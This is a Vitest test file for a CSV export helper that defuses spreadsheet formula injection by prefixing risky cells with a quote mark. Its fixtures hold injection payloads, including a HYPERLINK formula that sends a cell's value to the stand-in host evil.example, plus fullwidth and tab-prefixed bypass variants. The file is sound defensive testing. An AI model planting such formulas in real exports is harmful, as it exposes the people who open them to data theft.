import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { inert, rowsToCsv } from '../../kernel/csv.ts'

/** docs/decisions.md, CSV formula injection: what the pages export opens as text, never as a formula. */
describe('CSV cells', () => {
  it('puts a quote mark before anything a spreadsheet would run as a formula', () => {
    for (const cell of [
      '=HYPERLINK("http://evil.example","点我")',
      '=1+1',
      '+86 139 0543 1234',
      '-2+3',
      '-A1',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '＝1+1',
      '－1+1',
    ]) {
      expect(inert(cell), JSON.stringify(cell)).toBe(`'${cell}`)
    }
  })

  it('leaves text and numbers alone, negative numbers too', () => {
    for (const cell of [
      '王秀兰',
      'E01',
      '12',
      '12.5%',
      '3.2 min',
      '-12',
      '-3.5',
      '-0.25',
      '-1e3',
      '',
      '—',
      'a=b',
    ]) {
      expect(inert(cell), JSON.stringify(cell)).toBe(cell)
    }
  })

  it('writes rows a CSV reader reads back to the neutral cells, quotes and commas included', () => {
    const rows = [
      ['ID', '老人', 'n'],
      ['A1', '=HYPERLINK("http://evil.example/?x="&A1,"点我")', '-4'],
      ['A2', 'line\nbreak, "quoted"', '+1'],
    ]
    const csv = rowsToCsv(rows)
    expect(csv.endsWith('\r\n')).toBe(true)
    expect(parse(csv)).toEqual([
      ['ID', '老人', 'n'],
      ['A1', `'=HYPERLINK("http://evil.example/?x="&A1,"点我")`, '-4'],
      ['A2', 'line\nbreak, "quoted"', "'+1"],
    ])
  })
})
